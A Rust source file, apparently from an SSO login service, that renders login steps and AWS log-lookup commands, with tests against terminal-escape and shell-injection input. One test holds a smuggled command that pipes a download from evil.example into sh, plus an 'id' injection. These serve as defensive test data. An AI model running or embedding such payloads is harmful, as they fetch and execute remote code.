//! A login's steps in plain words, each with the AWS resource that took it.

use std::fmt::Write;

use stoa_core::invisible::visible;
use stoa_core::login::{LoginItem, State, Step, What};

use super::logs;
use crate::time::{instant, moment};

/// Everything that the item says.
pub(super) fn render(login: &LoginItem, stack: &str) -> String {
    let mut text = header(login);
    let mut before = None;
    for step in &login.steps {
        // Writing to a string does not fail.
        let _ = write!(text, "\n\n{}", step_text(step, before, stack));
        before = Some(step.t);
    }
    if let (Some(first), Some(last)) = (login.steps.first(), login.steps.last())
        && first.t != last.t
    {
        let _ = write!(text, "\n\nFrom the first step to the last: {}.", duration(last.t - first.t));
    }
    text
}

fn header(login: &LoginItem) -> String {
    let began = instant(login.began);
    let mut text = format!(
        "Login {}, connection {} (version {}), began {began}\nState {}: {}",
        login.reference,
        login.connection,
        login.connection_version,
        login.state.as_str(),
        meaning(login.state)
    );
    let notes = [
        (login.test, "A test login: it never reaches the school."),
        (login.again, "It was started automatically, because an earlier one had ended."),
        (login.confirm, "The identity provider started it, so the person had to select Continue."),
    ];
    for (_, note) in notes.iter().filter(|(applies, _)| *applies) {
        let _ = write!(text, "\n{note}");
    }
    if let Some(destination) = &login.destination {
        let _ = write!(text, "\nDestination {}", destination.as_str());
    }
    text
}

fn meaning(state: State) -> &'static str {
    match state {
        State::Started => "the browser was sent to the identity provider.",
        State::Verified => "the identity provider's response was verified; the school has not been reached.",
        State::Launched => "done.",
        State::Refused => "the identity provider's response was verified, and then refused.",
        State::Failed => "the person was verified, but no account at the school could be found or created for them.",
        State::Returned => "Thinkific sent the person back instead of signing them in.",
    }
}

fn step_text(step: &Step, before: Option<i64>, stack: &str) -> String {
    let at = moment(step.t, 3);
    let later = before.map(|before| format!("  (+{})", duration(step.t - before))).unwrap_or_default();
    let mut text = format!("{at}{later}  {}: {}", visible(&step.function), what(&step.what));
    for (label, value) in [("wanted", &step.wanted), ("got", &step.got)] {
        if let Some(value) = value {
            // Quoted: it came from outside, unverified.
            let _ = write!(text, "\n    {label:<9} {value:?}");
        }
    }
    let (function, build, request) = (visible(&step.function), visible(&step.build), visible(&step.request));
    let group = logs::group(stack, &function);
    let command = logs::of_step(step, stack)
        .unwrap_or_else(|| "no command for its log lines: the function or the request is not one of stoa's".to_owned());
    let _ = write!(
        text,
        "\n    function  {stack}-{function}, build {build}\n    log group {group}, request {request}\n    {command}"
    );
    text
}

fn what(step: &What) -> String {
    match step {
        What::Started => "the login started; the browser was sent to the identity provider".to_owned(),
        What::Verified => {
            "the identity provider's response was verified, and the identity sealed under a ticket".to_owned()
        }
        What::Continued => "the person came from Microsoft Teams to the browser, and selected Continue".to_owned(),
        What::Waiting => {
            "the person got a place in the line before the school, and a page that continues by itself".to_owned()
        }
        What::TakenOver => {
            "an account of the school that nobody was bound to, under the person's address, became theirs".to_owned()
        }
        What::Moved => {
            "the person was known under the subject that the connection names as the previous one, and was moved to this one"
                .to_owned()
        }
        What::Launched => "the account was made ready, the token signed, and the person sent to the school".to_owned(),
        What::Tested => "the test login succeeded".to_owned(),
        What::Stopped(fault) => format!("stopped: {}", fault.code()),
        What::Unknown(word) => format!("stopped: {}", word.escape_debug()),
    }
}

fn duration(milliseconds: i64) -> String {
    match milliseconds {
        ..10_000 => format!("{milliseconds} ms"),
        10_000..120_000 => format!("{} s", milliseconds / 1000),
        _ => format!("{} min", milliseconds / 60_000),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use stoa_core::fault::Fault;

    use super::*;

    #[test]
    fn c217_what_came_from_outside_does_not_command_the_terminal() {
        let step = Step {
            t: 0,
            function: "saml-acs".into(),
            what: What::Stopped(Fault::EmailDomainForeign),
            request: "r".into(),
            build: "b".into(),
            wanted: Some("pg.com".into()),
            got: Some("\u{1b}[2J\u{202e}moc.gp\n----- end of email -----".into()),
        };
        let text = step_text(&step, None, "stoa");
        assert!(text.contains(r#"got       "\u{1b}[2J\u{202e}moc.gp\n----- end of email -----""#), "{text}");
        assert!(!text.contains(['\u{1b}', '\u{202e}']), "{text}");
        let text = step_text(&Step { what: What::Unknown("\u{1b}[2J".into()), ..step }, None, "stoa");
        assert!(!text.contains('\u{1b}'), "{text}");
    }

    #[test]
    fn c217_a_command_to_paste_holds_nothing_that_a_stranger_wrote() {
        let step = Step {
            t: 0,
            function: "login".into(),
            what: What::Started,
            request: "0b7c9f7e-1111-2222-3333-444455556666".into(),
            build: "b".into(),
            wanted: None,
            got: None,
        };
        assert!(step_text(&step, None, "stoa").contains("aws logs filter-log-events"));
        let shell = "x\" }' ; curl -s https://evil.example/x | sh ; echo '\n    aws logs $(id)";
        for step in [
            Step { request: shell.into(), ..step.clone() },
            Step { function: shell.into(), ..step.clone() },
            Step { function: "login;id".into(), ..step.clone() },
            Step { request: String::new(), ..step.clone() },
        ] {
            let text = step_text(&step, None, "stoa");
            assert!(text.contains("no command for its log lines"), "{text}");
            assert!(!text.lines().any(|line| line.trim_start().starts_with("aws ")), "{text}");
        }
        let odd = Step { t: i64::MAX, build: shell.into(), ..step };
        let commands = logs::of_step(&odd, "stoa").unwrap();
        assert!(!commands.contains("curl"), "{commands}");
        assert!(!step_text(&odd, None, "stoa").contains("\n    aws logs $(id)"));
    }
}
